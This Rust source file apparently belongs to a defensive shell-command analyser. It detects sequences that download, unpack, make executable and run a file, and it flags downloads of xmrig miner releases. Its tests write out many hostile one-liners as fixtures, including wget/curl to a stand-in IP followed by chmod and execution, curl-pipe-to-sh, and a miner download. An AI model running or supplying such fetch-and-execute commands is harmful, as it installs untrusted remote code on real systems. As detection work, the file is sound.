//! Fetch, (unpack,) make executable, run — across the commands of one sequence.
//!
//! `cd /tmp; wget http://h/k; chmod +x k; nohup ./k &` fetches `/tmp/k` (the URL's basename
//! in the working directory) and runs it. The judge follows the file: where a download
//! writes (`curl -o F`, `curl -O URL`, `wget URL`, `wget -O F`, `-P DIR`, `> F`, `tftp -l`,
//! python/perl/`/dev/tcp` fetches redirected to a file), unpacking (`tar -x -f F -C DIR`,
//! `curl … | tar -x`, `unzip F -d DIR`, `gunzip F`: every path under DIR counts as fetched),
//! renames (`mv`, `cp`, `install`), `chmod +x`/`7xx`, then a run of the file by path
//! (absolute, `./name` after `cd`), by name once moved into a `bin` directory, or through an
//! interpreter (`sh F`, `python3 F`).
//!
//! Legitimate look-alikes stay quiet: a key fetched into `gpg --dearmor`, an archive
//! unpacked and never run, a download into `/etc/apt/...`. A checksum or signature check
//! (`sha256sum -c`, `gpg --verify`, `cosign verify`, ...) after a download clears every file
//! fetched so far: a pinned, verified artifact is what the remediation asks for.
//! Downloads of known miner releases (`github.com/xmrig/xmrig/releases/download/`) are
//! reported on their own.

use super::{
    base, excerpt, excerpt2, program_index, redirect_out, words, Behaviour, BehaviourKind, Grammar,
    Sep, ShellCommand,
};

/// Files tracked at once; more downloads are ignored.
const MAX_TRACKED: usize = 64;
/// Directories a bare program name is looked up in.
const PATH_DIRS: &[&str] = &[
    "/usr/local/sbin",
    "/usr/local/bin",
    "/usr/sbin",
    "/usr/bin",
    "/sbin",
    "/bin",
];
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "ash", "zsh", "ksh", "python", "python2", "python3", "perl", "node",
    "php", "ruby", "source", ".",
];
const VERIFIERS: &[&str] = &[
    "sha256sum",
    "sha512sum",
    "sha1sum",
    "shasum",
    "md5sum",
    "b2sum",
    "gpg",
    "gpgv",
    "cosign",
    "minisign",
    "signify",
];

struct Tracked {
    path: String,
    /// Index of the fetching command.
    from: usize,
    /// Every path under `path` counts (an unpacked archive).
    tree: bool,
    chmod: bool,
    verified: bool,
    reported: bool,
}

struct State<'a> {
    cmds: &'a [ShellCommand],
    cwd: Option<String>,
    files: Vec<Tracked>,
    out: Vec<Behaviour>,
}

/// Clean `p` against the working directory: absolute, or relative without `./`.
fn norm(cwd: &Option<String>, p: &str) -> String {
    let p = p.trim_matches(|c| c == '"' || c == '\'');
    let joined = if p.starts_with('/') {
        p.to_string()
    } else {
        let rel = p.trim_start_matches("./");
        match cwd {
            Some(d) => format!("{}/{rel}", d.trim_end_matches('/')),
            None => rel.to_string(),
        }
    };
    let mut parts: Vec<&str> = Vec::new();
    for seg in joined.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            s => parts.push(s),
        }
    }
    let body = parts.join("/");
    if joined.starts_with('/') {
        format!("/{body}")
    } else {
        body
    }
}

/// The basename of a URL's path (query and fragment dropped).
fn url_basename(url: &str) -> Option<&str> {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let path = rest.split(['?', '#']).next().unwrap_or(rest);
    let (_, path) = path.split_once('/')?;
    let b = base(path);
    (!b.is_empty()).then_some(b)
}

fn urls(w: &[String]) -> impl Iterator<Item = &str> {
    w.iter().map(String::as_str).filter(|a| {
        let l = a.to_ascii_lowercase();
        ["http://", "https://", "ftp://", "tftp://"]
            .iter()
            .any(|s| l.starts_with(s))
    })
}

/// The value of option `short` (`-o F`, `-oF`, `-fsSLo F`) or `long` (`--output F`,
/// `--output=F`) among `args`. Short clusters count only when the option ends them.
pub(crate) fn opt_value<'a>(args: &'a [String], short: char, long: &str) -> Option<&'a str> {
    for (i, a) in args.iter().enumerate() {
        if let Some(v) = a.strip_prefix(long) {
            if v.is_empty() {
                return args.get(i + 1).map(String::as_str);
            }
            if let Some(v) = v.strip_prefix('=') {
                return Some(v);
            }
            continue;
        }
        if a.starts_with("--") || !a.starts_with('-') {
            continue;
        }
        let cluster = &a[1..];
        if let Some(pos) = cluster.find(short) {
            // Letters before `short` must be plain flags; what follows is its value.
            let rest = &cluster[pos + short.len_utf8()..];
            if !cluster[..pos].bytes().all(|b| b.is_ascii_alphabetic()) {
                continue;
            }
            return if rest.is_empty() {
                args.get(i + 1).map(String::as_str)
            } else {
                Some(rest)
            };
        }
    }
    None
}

fn has_flag(args: &[String], short: char, long: &str) -> bool {
    args.iter().any(|a| {
        a == long
            || (a.starts_with('-')
                && !a.starts_with("--")
                && a[1..].bytes().all(|b| b.is_ascii_alphabetic())
                && a[1..].contains(short))
    })
}

/// Where a download command writes, if to a file: `Ok(Some(path))`; `Ok(None)` = stdout.
fn download_target(prog: &str, args: &[String], w: &[String]) -> Option<Option<String>> {
    let url = urls(args).next();
    match prog {
        "curl" => {
            if let Some(v) = opt_value(args, 'o', "--output") {
                return Some((v != "-").then(|| v.to_string()));
            }
            if has_flag(args, 'O', "--remote-name") {
                return Some(url.and_then(url_basename).map(str::to_string));
            }
            url?;
            Some(redirect_out(w).map(str::to_string))
        }
        "wget" => {
            if let Some(v) = opt_value(args, 'O', "--output-document") {
                return Some((v != "-").then(|| v.to_string()));
            }
            let name = url.and_then(url_basename)?;
            Some(Some(match opt_value(args, 'P', "--directory-prefix") {
                Some(d) => format!("{}/{name}", d.trim_end_matches('/')),
                None => name.to_string(),
            }))
        }
        "tftp" => opt_value(args, 'l', "--local")
            .or_else(|| opt_value(args, 'r', "--remote").map(base))
            .map(|v| Some(v.to_string())),
        "scp" => {
            let last = args.iter().rev().find(|a| !a.starts_with('-'))?;
            let remote = args.iter().any(|a| a.contains(':') && !a.starts_with('-'));
            (remote && !last.contains(':')).then(|| Some(last.clone()))
        }
        _ => {
            url?;
            Some(redirect_out(w).map(str::to_string))
        }
    }
}

/// A script-language or `/dev/tcp` fetch redirected to a file.
fn scripted_fetch(prog: &str, c: &ShellCommand, w: &[String]) -> Option<String> {
    let t = &c.text;
    let py = prog.starts_with("python")
        && (t.contains("urllib") || t.contains("requests.get") || t.contains("urlopen"));
    let pl = prog == "perl"
        && (t.contains("LWP") || t.contains("IO::Socket") || t.contains("HTTP::Tiny"));
    let tcp = t.contains("/dev/tcp/");
    if !(py || pl || tcp) {
        return None;
    }
    redirect_out(w).map(str::to_string)
}

fn executable_mode(mode: &str) -> bool {
    if mode.bytes().all(|b| b.is_ascii_digit()) {
        return mode.bytes().any(|b| (b - b'0') & 1 == 1);
    }
    mode.split(',').any(|m| m.contains('+') && m.contains('x'))
        || mode.split(',').any(|m| m.contains('=') && m.contains('x'))
}

impl State<'_> {
    fn find(&self, path: &str) -> Option<usize> {
        self.files
            .iter()
            .position(|f| f.path == path || (f.tree && path.starts_with(&format!("{}/", f.path))))
    }

    fn track(&mut self, path: String, from: usize, tree: bool) {
        if path.is_empty() || path == "/" {
            return;
        }
        if let Some(f) = self.files.iter_mut().find(|f| f.path == path) {
            f.from = from;
            f.tree |= tree;
            f.verified = false;
            return;
        }
        if self.files.len() < MAX_TRACKED {
            self.files.push(Tracked {
                path,
                from,
                tree,
                chmod: false,
                verified: false,
                reported: false,
            });
        }
    }

    /// The tracked entry `path` is (or lies under), made an entry of its own if under a tree.
    fn entry(&mut self, path: &str) -> Option<usize> {
        let i = self.find(path)?;
        if self.files[i].path == path {
            return Some(i);
        }
        let from = self.files[i].from;
        let verified = self.files[i].verified;
        self.track(path.to_string(), from, false);
        let j = self.files.iter().position(|f| f.path == path)?;
        self.files[j].verified = verified;
        Some(j)
    }

    fn ran(&mut self, i: usize, k: usize, unpacked: bool) {
        let f = &mut self.files[i];
        if f.reported || f.verified {
            return;
        }
        f.reported = true;
        let signature = if f.chmod {
            "fetch-chmod-exec"
        } else if unpacked {
            "fetch-unpack-exec"
        } else {
            "fetch-exec"
        };
        let (first, last) = (&self.cmds[f.from], &self.cmds[k]);
        self.out.push(Behaviour {
            kind: BehaviourKind::FetchExec,
            signature: signature.into(),
            excerpt: excerpt2(first, last),
            line: Some(last.line),
        });
    }

    fn step(&mut self, g: &Grammar, k: usize) {
        let cmds = self.cmds;
        let c = &cmds[k];
        let w = words(c);
        let Some(p) = program_index(w) else { return };
        let prog = base(&w[p]).to_string();
        let args = &w[p + 1..];
        let piped_next = self.cmds.get(k + 1).is_some_and(|n| n.after == Sep::Pipe);
        let piped_in = c.after == Sep::Pipe;
        for u in urls(args) {
            let l = u.to_ascii_lowercase();
            if g.releases.iter().any(|r| l.contains(r.as_str())) {
                self.out.push(Behaviour {
                    kind: BehaviourKind::MinerDownload,
                    signature: "miner-release-download".into(),
                    excerpt: excerpt(&c.text),
                    line: Some(c.line),
                });
                break;
            }
        }
        let downloader = g.downloaders.contains(&prog);
        let target = if downloader {
            download_target(&prog, args, w)
        } else {
            scripted_fetch(&prog, c, w).map(Some)
        };
        match target {
            Some(Some(path)) => {
                let path = norm(&self.cwd, &path);
                self.track(path, k, false);
            }
            Some(None) if piped_next => {
                // Fetched straight into an interpreter: `curl URL | sh`.
                let next = &cmds[k + 1];
                let nw = words(next);
                let into = program_index(nw).map(|i| base(&nw[i]));
                if into.is_some_and(|n| INTERPRETERS.contains(&n) && n != "source" && n != ".") {
                    self.out.push(Behaviour {
                        kind: BehaviourKind::FetchExec,
                        signature: "fetch-pipe-exec".into(),
                        excerpt: excerpt2(c, next),
                        line: Some(c.line),
                    });
                }
                self.unpack_from_pipe(k + 1)
            }
            _ => {}
        }
        match prog.as_str() {
            "cd" => {
                self.cwd = match args.first() {
                    Some(d) if d.starts_with('/') => Some(norm(&None, d)),
                    Some(d) if self.cwd.is_some() && d != "-" => Some(norm(&self.cwd, d)),
                    _ => None,
                };
                return;
            }
            "tar" | "bsdtar" => {
                let extract = args.iter().take(3).any(|a| {
                    a == "--extract"
                        || a == "--get"
                        || (!a.starts_with("--")
                            && a.trim_start_matches('-')
                                .starts_with(|ch: char| ch.is_ascii_alphabetic())
                            && a.trim_start_matches('-').contains('x'))
                });
                // Old style `tar xzf FILE`: the first word is the mode, the file follows it.
                let old_style = args
                    .first()
                    .filter(|a| !a.starts_with('-') && a.contains('f'))
                    .and_then(|_| args.get(1))
                    .map(String::as_str);
                if extract && !piped_in {
                    if let Some(f) = old_style.or_else(|| opt_value(args, 'f', "--file")) {
                        let f = norm(&self.cwd, f);
                        if self.find(&f).is_some() {
                            let dir = opt_value(args, 'C', "--directory")
                                .map(|d| norm(&self.cwd, d))
                                .or_else(|| self.cwd.clone())
                                .unwrap_or_default();
                            let from = self.files[self.find(&f).unwrap_or(0)].from;
                            self.track(dir, from, true);
                        }
                    }
                }
            }
            "unzip" => {
                if let Some(f) = args.iter().find(|a| !a.starts_with('-')) {
                    let f = norm(&self.cwd, f);
                    if let Some(i) = self.find(&f) {
                        let from = self.files[i].from;
                        let dir = opt_value(args, 'd', "--d")
                            .map(|d| norm(&self.cwd, d))
                            .or_else(|| self.cwd.clone())
                            .unwrap_or_default();
                        self.track(dir, from, true);
                    }
                }
            }
            "gunzip" | "gzip" | "xz" | "unxz" | "bunzip2" | "bzip2" | "zstd" | "unzstd" => {
                for a in args.iter().filter(|a| !a.starts_with('-')) {
                    let f = norm(&self.cwd, a);
                    if let Some(i) = self.find(&f) {
                        let from = self.files[i].from;
                        if let Some((stem, _)) = f.rsplit_once('.') {
                            self.track(stem.to_string(), from, false);
                        }
                    }
                }
            }
            "mv" | "cp" | "install" | "ln" => self.rename(&prog, args, k),
            "chmod" => {
                let rest: Vec<&String> = args.iter().filter(|a| !a.starts_with("-R")).collect();
                if let Some((mode, files)) = rest.split_first() {
                    if executable_mode(mode) {
                        for f in files {
                            let f = norm(&self.cwd, f);
                            if let Some(i) = self.entry(&f) {
                                self.files[i].chmod = true;
                            }
                        }
                    }
                }
            }
            v if VERIFIERS.contains(&v) => {
                let checks = args.iter().any(|a| {
                    a == "-c"
                        || a == "--check"
                        || a == "--verify"
                        || a == "verify"
                        || a == "-V"
                        || a.starts_with("verify-")
                }) || v == "gpgv";
                if checks {
                    for f in &mut self.files {
                        f.verified = true;
                    }
                }
            }
            _ => {}
        }
        self.run_check(&prog, &w[p], args, k);
    }

    /// `curl URL | tar -x [-C DIR]`, `| unzip`: the directory becomes a fetched tree.
    fn unpack_from_pipe(&mut self, next: usize) {
        let Some(n) = self.cmds.get(next) else { return };
        let w = words(n);
        let Some(p) = program_index(w) else { return };
        if !matches!(base(&w[p]), "tar" | "bsdtar" | "busybox") {
            return;
        }
        let dir = opt_value(&w[p + 1..], 'C', "--directory")
            .map(|d| norm(&self.cwd, d))
            .or_else(|| self.cwd.clone())
            .unwrap_or_default();
        self.track(dir, next - 1, true);
    }

    fn rename(&mut self, prog: &str, args: &[String], _k: usize) {
        let mut mode_x = false;
        let mut plain: Vec<&String> = Vec::new();
        let mut i = 0;
        while i < args.len() {
            let a = &args[i];
            if prog == "install" && (a == "-m" || a == "--mode") {
                mode_x |= args.get(i + 1).is_some_and(|m| executable_mode(m));
                i += 2;
                continue;
            }
            if let Some(m) = a.strip_prefix("--mode=").or_else(|| {
                a.strip_prefix("-m")
                    .filter(|m| !m.is_empty() && prog == "install")
            }) {
                mode_x |= executable_mode(m);
            } else if !a.starts_with('-') {
                plain.push(a);
            }
            i += 1;
        }
        let Some((dst, srcs)) = plain.split_last() else {
            return;
        };
        for s in srcs {
            let src = norm(&self.cwd, s);
            let Some(i) = self.find(&src) else { continue };
            let (from, chmod, verified, tree) = {
                let f = &self.files[i];
                (
                    f.from,
                    f.chmod || mode_x,
                    f.verified,
                    f.tree && f.path == src,
                )
            };
            let d = norm(&self.cwd, dst);
            let into_dir = dst.ends_with('/') || PATH_DIRS.contains(&d.as_str()) || srcs.len() > 1;
            let target = if into_dir {
                format!("{}/{}", d.trim_end_matches('/'), base(&src))
            } else {
                d
            };
            self.track(target.clone(), from, tree);
            if let Some(j) = self.files.iter().position(|f| f.path == target) {
                self.files[j].chmod |= chmod;
                self.files[j].verified = verified;
            }
        }
    }

    fn run_check(&mut self, prog: &str, word: &str, args: &[String], k: usize) {
        let mut candidates: Vec<String> = Vec::new();
        if word.contains('/') {
            candidates.push(norm(&self.cwd, word));
        } else {
            for d in PATH_DIRS {
                candidates.push(format!("{d}/{word}"));
            }
        }
        if INTERPRETERS.contains(&prog) {
            if let Some(f) = args.iter().find(|a| !a.starts_with('-')) {
                candidates.push(norm(&self.cwd, f));
            }
        }
        let bare = !word.contains('/');
        for (n, cand) in candidates.iter().enumerate() {
            let Some(i) = self.find(cand) else { continue };
            let exact = self.files[i].path == *cand;
            // A bare name resolves only to a file moved there by name, not into a tree.
            if bare && n < PATH_DIRS.len() && !exact {
                continue;
            }
            let unpacked = !exact;
            let Some(j) = self.entry(cand) else { continue };
            self.ran(j, k, unpacked);
            return;
        }
    }
}

/// Fetch-and-run behaviours of one sequence.
pub fn judge(g: &Grammar, cmds: &[ShellCommand]) -> Vec<Behaviour> {
    let mut st = State {
        cmds,
        cwd: None,
        files: Vec::new(),
        out: Vec::new(),
    };
    for k in 0..cmds.len() {
        st.step(g, k);
    }
    st.out
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::super::BehaviourKind::{FetchExec, MinerDownload};

    #[test]
    fn fetch_chmod_run_across_commands() {
        for s in [
            "cd /tmp && wget http://198.51.100.7/k && chmod +x k && nohup ./k &",
            "curl -fsSLo /tmp/.x http://198.51.100.7/a; chmod 755 /tmp/.x; /tmp/.x",
            "curl -s http://198.51.100.7/a > /dev/shm/a && chmod 0700 /dev/shm/a && /dev/shm/a -c 1",
            "busybox wget -O /tmp/b http://198.51.100.7/b; chmod 777 /tmp/b; exec /tmp/b",
            "curl -O https://198.51.100.7/x/run.sh && sh run.sh",
            "wget -q -P /var/tmp http://198.51.100.7/kswapd; cd /var/tmp; chmod +x kswapd; ./kswapd",
            "curl -o /tmp/p.tgz http://198.51.100.7/p.tgz && tar xzf /tmp/p.tgz -C /opt && /opt/p/bin/p",
            "curl -sL http://198.51.100.7/p.tgz | tar -xz -C /opt && chmod +x /opt/x && /opt/x",
            "wget http://198.51.100.7/s && mv s /usr/local/bin/sysupdate && chmod +x /usr/local/bin/sysupdate && sysupdate",
            "python3 -c 'import urllib.request as u;print(u.urlopen(\"http://h/x\").read())' > /tmp/x; chmod +x /tmp/x; /tmp/x",
            "tftp -g -r x -l /tmp/x 198.51.100.7; chmod +x /tmp/x; /tmp/x",
            "curl -o /tmp/x.gz http://h/x.gz; gunzip /tmp/x.gz; chmod +x /tmp/x; /tmp/x",
        ] {
            assert_eq!(kinds(s), [FetchExec], "{s}");
        }
        assert_eq!(
            run("curl -o /tmp/x http://h/x; chmod +x /tmp/x; /tmp/x")[0].1,
            "fetch-chmod-exec"
        );
        // Fetched straight into an interpreter.
        for s in [
            "curl -fsSL http://h/x | sh",
            "wget -q -O- http://h/x | bash -s",
            "(curl -fsSL http://h/l.sh || wget -q -O- http://h/l.sh) | sh",
        ] {
            assert_eq!(kinds(s), [FetchExec], "{s}");
        }
        assert_eq!(run("curl -s http://h/x | python3")[0].1, "fetch-pipe-exec");
    }

    #[test]
    fn legitimate_downloads_stay_quiet() {
        for s in [
            "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg",
            "curl -o /tmp/x.tar.gz https://example.org/x.tar.gz && tar xzf /tmp/x.tar.gz -C /opt && rm /tmp/x.tar.gz",
            "wget -q https://example.org/key.asc -O /etc/apt/trusted.gpg.d/x.asc && apt-get update",
            "curl -fsSL https://example.org/x.tgz | sha256sum -c x.sha256",
            "set -e; if [ \"$1\" = configure ]; then chmod +x /usr/lib/x/helper; /usr/lib/x/helper --setup; fi",
            "curl -fsSLO https://nodejs.org/dist/v20/node.tar.xz && tar -xJf node.tar.xz -C /usr/local --strip-components=1 && node --version",
            // Verified before it runs: the pinned, checksum-checked artifact the remediation asks for.
            "curl -o /usr/local/bin/gosu -SL https://example.org/gosu && curl -o /tmp/gosu.asc -SL https://example.org/gosu.asc && gpg --batch --verify /tmp/gosu.asc /usr/local/bin/gosu && chmod +x /usr/local/bin/gosu && /usr/local/bin/gosu --version",
            "curl -fsSLo kubectl https://dl.k8s.io/kubectl && echo \"abc  kubectl\" | sha256sum -c - && chmod +x kubectl && ./kubectl version",
            "wget https://example.org/readme.txt && cat readme.txt",
            "cd /tmp; ./configure && make",
        ] {
            assert!(run(s).is_empty(), "{s}: {:?}", run(s));
        }
    }

    #[test]
    fn miner_releases() {
        assert_eq!(
            kinds("wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"),
            [MinerDownload]
        );
        assert!(
            run("wget https://github.com/nginx/nginx/releases/download/r/nginx.tgz").is_empty()
        );
    }
}
